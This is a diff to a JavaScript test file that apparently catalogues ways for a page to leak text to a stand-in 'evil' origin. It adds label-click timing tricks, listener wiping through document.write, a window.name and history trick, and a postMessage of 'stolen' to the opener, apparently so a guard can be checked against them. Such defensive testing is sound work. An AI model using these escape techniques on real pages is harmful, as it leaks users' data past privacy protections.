@@ -387,6 +387,7 @@ Object.assign(WAYS, {
   },
   // Windows of their own.
   pictureWindow: async (evil) => (await documentPictureInPicture.requestWindow()).open(`${evil}/pictureWindow`),
+  emptiedPage: () => emptyPage(),
   opener: (evil) => window.opener?.open(`${evil}/opener`),
   frozenOpen: (evil) => Window.prototype.open?.call(window, `${evil}/frozenOpen`),
   // Pages that a script writes, which no first script guards.
@@ -473,6 +474,25 @@ Object.assign(WAYS, {
     inner.click();
     outer.append(inner);
     inner.click();
+  },
+  // What a label passes its click on to is decided after its listeners have run.
+  lateLabel: (evil, text) => {
+    const made = Object.assign(add("a"), { href: `${evil}/lateLabel?${text}`, target: "_blank" });
+    made.append(Object.assign(document.createElement("button"), { id: "late", type: "button" }));
+    const label = add("label");
+    const inner = document.createElement("span");
+    label.append(inner);
+    label.addEventListener("click", () => Object.assign(label, { htmlFor: "late" }));
+    label.click();
+    label.htmlFor = "";
+    inner.click();
+  },
+  movedControl: (evil, text) => {
+    const made = Object.assign(add("a"), { href: `${evil}/movedControl?${text}`, target: "_blank" });
+    const control = Object.assign(add("input"), { id: "moved" });
+    const label = Object.assign(add("label"), { htmlFor: control.id });
+    label.addEventListener("click", ({ target }) => target === label && made.append(control));
+    label.click();
   },
   otherEvents: (evil, text) => {
     const made = Object.assign(add("a"), { href: `${evil}/otherEvents?${text}`, target: "_blank" });
@@ -700,8 +720,23 @@ Object.assign(WAYS, {
   cookieStore: (_evil, text) => cookieStore.set(text, "1"),
 });
 
+/** Begins the page anew, which takes every listener away that was there before. */
+function emptyPage() {
+  for (const name of ["write", "writeln"]) document[name](trustedTypes.emptyHTML);
+  document.close();
+}
+
+/** Leaves words for the page that was in this tab before, and goes to it. */
+globalThis.answerPageBefore = () => {
+  Reflect.set(window, "name", "stolen");
+  for (const word of ["one", "two"]) history.pushState(null, "", `#${word}`);
+  history.go(-3);
+  for (let count = 0; count < 3; count += 1) history.back();
+};
+
 /** Listens for another page that opened this one, and answers it. */
 globalThis.answerOthers = () => {
+  emptyPage();
   window.opener?.postMessage("stolen", "*");
   for (const [owner, name] of [
     [window, "addEventListener"],
